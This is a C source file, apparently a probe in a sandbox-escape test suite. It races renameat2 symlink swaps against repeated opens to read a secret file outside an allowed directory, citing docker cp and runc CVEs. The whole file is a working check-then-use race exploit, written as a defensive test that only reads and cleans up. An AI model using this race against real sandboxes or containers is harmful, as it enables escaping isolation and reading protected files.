/*
 * Class: symlink_swap — race a symlink swap on a path the policy allows, to
 * open a file outside the allowed tree through it.
 * Source: issue 8 ("symlink swaps on bind-mount targets"); the classic
 * check-then-use race on paths: CVE-2018-15664 (docker cp symlink-exchange
 * race), runc CVE-2021-30465 (mount target swapped for a symlink). Rules on
 * inodes (Landlock) or on a mount made once (a bind mount) must not care
 * what a name pointed to a moment ago.
 * Usage: symlink_swap SECRET [MS=1000]   (SECRET: a readable file outside the
 * allowed paths; runs in a writable working directory, which it cleans up)
 * How: in the working directory, `d` is a real directory holding a decoy file
 * named like SECRET, and `l` a symlink to SECRET's directory. One thread swaps
 * the two names (renameat2 RENAME_EXCHANGE; if that is refused, it replaces a
 * symlink `d` atomically between `real` and SECRET's directory) for MS
 * milliseconds while the main thread opens and reads `d/<name of SECRET>`.
 * BLOCKED: no byte of SECRET was read, and the reader did meet the swapped
 * side (else ERROR: the race never happened). ESCAPED: SECRET's bytes were
 * read through the swapped path.
 * SAFE: touches only its working directory; SECRET is only read.
 */
#define ESCAPE_CLASS "symlink_swap"
#include "escape.h"
#include <fcntl.h>
#include <libgen.h>
#include <pthread.h>
#include <stdatomic.h>
#include <stdio.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <time.h>

#ifndef RENAME_EXCHANGE
#define RENAME_EXCHANGE (1 << 1)
#endif

static const char decoy[] = "sbx symlink_swap decoy\n";

static atomic_int stop;
static int use_exchange = 1;
static char secret_dir[4096];
static long swaps;
static int swap_errno;

static long now_ms(void)
{
	struct timespec ts;
	clock_gettime(CLOCK_MONOTONIC, &ts);
	return ts.tv_sec * 1000L + ts.tv_nsec / 1000000L;
}

static void *swapper(void *arg)
{
	(void)arg;
	int flip = 0;
	while (!atomic_load(&stop)) {
		if (use_exchange) {
			if (syscall(SYS_renameat2, AT_FDCWD, "d", AT_FDCWD, "l", RENAME_EXCHANGE)) {
				swap_errno = errno;
				break;
			}
		} else {
			/* `d` is a symlink, replaced atomically by a fresh one. */
			unlink("d.new");
			if (symlink(flip ? secret_dir : "real", "d.new") || rename("d.new", "d")) {
				swap_errno = errno;
				break;
			}
			flip = !flip;
		}
		swaps++;
	}
	return NULL;
}

/*
 * Remove what we made. Only after the swapper stopped, and a name is looked
 * into only when it is a real directory: through the symlink, unlinking the
 * decoy's name would remove SECRET itself.
 */
static void cleanup(const char *name)
{
	static const char *const names[] = { "d.new", "d", "l", "real" };
	char p[4200];
	struct stat st;
	for (size_t i = 0; i < sizeof names / sizeof names[0]; i++) {
		if (lstat(names[i], &st)) continue;
		if (S_ISDIR(st.st_mode)) {
			snprintf(p, sizeof p, "%s/%s", names[i], name);
			unlink(p);
			rmdir(names[i]);
		} else if (S_ISLNK(st.st_mode)) {
			unlink(names[i]);
		}
	}
}

/* Make `d` (real dir with the decoy) and `l` (symlink to SECRET's dir). */
static void setup(const char *name, int exchange)
{
	char p[4200];
	const char *dir = exchange ? "d" : "real";
	if (mkdir(dir, 0755)) escape_error("mkdir(%s) = -1 %s", dir, escape_errname(errno));
	snprintf(p, sizeof p, "%s/%s", dir, name);
	int fd = open(p, O_WRONLY | O_CREAT | O_EXCL | O_CLOEXEC, 0644);
	if (fd < 0 || write(fd, decoy, sizeof decoy - 1) != (ssize_t)(sizeof decoy - 1))
		escape_error("cannot write the decoy %s: %s", p, escape_errname(errno));
	close(fd);
	if (exchange) {
		if (symlink(secret_dir, "l")) escape_error("symlink(l) = -1 %s", escape_errname(errno));
	} else if (symlink("real", "d")) {
		escape_error("symlink(d) = -1 %s", escape_errname(errno));
	}
}

int main(int argc, char **argv)
{
	if (argc < 2) escape_error("usage: symlink_swap SECRET [MS]");
	long ms = argc > 2 ? escape_arg_long(argv[2], "MS") : 1000;
	char tmp[4096], tmp2[4096];
	snprintf(tmp, sizeof tmp, "%s", argv[1]);
	snprintf(tmp2, sizeof tmp2, "%s", argv[1]);
	snprintf(secret_dir, sizeof secret_dir, "%s", dirname(tmp));
	const char *name = basename(tmp2);
	char target[4200];
	snprintf(target, sizeof target, "d/%s", name);

	cleanup(name);
	setup(name, 1);
	/* Is RENAME_EXCHANGE available (filesystem, filter)? Try one swap and back. */
	if (syscall(SYS_renameat2, AT_FDCWD, "d", AT_FDCWD, "l", RENAME_EXCHANGE) ||
	    syscall(SYS_renameat2, AT_FDCWD, "d", AT_FDCWD, "l", RENAME_EXCHANGE)) {
		int e = errno;
		cleanup(name);
		use_exchange = 0;
		setup(name, 0);
		(void)e;
	}

	pthread_t t;
	if (pthread_create(&t, NULL, swapper, NULL)) escape_error("pthread_create failed");
	long opens = 0, decoys = 0, refused = 0, other = 0, first_err = 0;
	char got[256];
	ssize_t secret_n = -1;
	long end = now_ms() + ms;
	while (now_ms() < end) {
		for (int i = 0; i < 64; i++) {
			opens++;
			int fd = open(target, O_RDONLY | O_CLOEXEC);
			if (fd < 0) {
				refused++;
				if (!first_err) first_err = errno;
				continue;
			}
			ssize_t n = read(fd, got, sizeof got);
			close(fd);
			if (n == (ssize_t)(sizeof decoy - 1) && !memcmp(got, decoy, (size_t)n)) {
				decoys++;
			} else if (n > 0) {
				secret_n = n;
				break;
			} else {
				other++;
			}
		}
		if (secret_n > 0) break;
	}
	atomic_store(&stop, 1);
	pthread_join(t, NULL);
	cleanup(name);

	const char *how = use_exchange ? "renameat2(RENAME_EXCHANGE)" : "rename(symlink)";
	if (secret_n > 0)
		escape_escaped("read %zd byte(s) of %s through %s after %ld opens (%ld swaps by %s)", secret_n, argv[1],
			       target, opens, swaps, how);
	if (swaps == 0)
		escape_error("no swap happened (%s = -1 %s): the race was never run", how, escape_errname(swap_errno));
	if (refused + other == 0)
		escape_error("%ld opens all met the decoy in %ld swaps: the swapped side was never reached", opens, swaps);
	escape_blocked("%ld opens of %s during %ld swaps by %s: %ld decoy, %ld refused (first: %s), %ld empty; no byte of %s",
		       opens, target, swaps, how, decoys, refused, first_err ? escape_errname((int)first_err) : "-", other,
		       argv[1]);
}
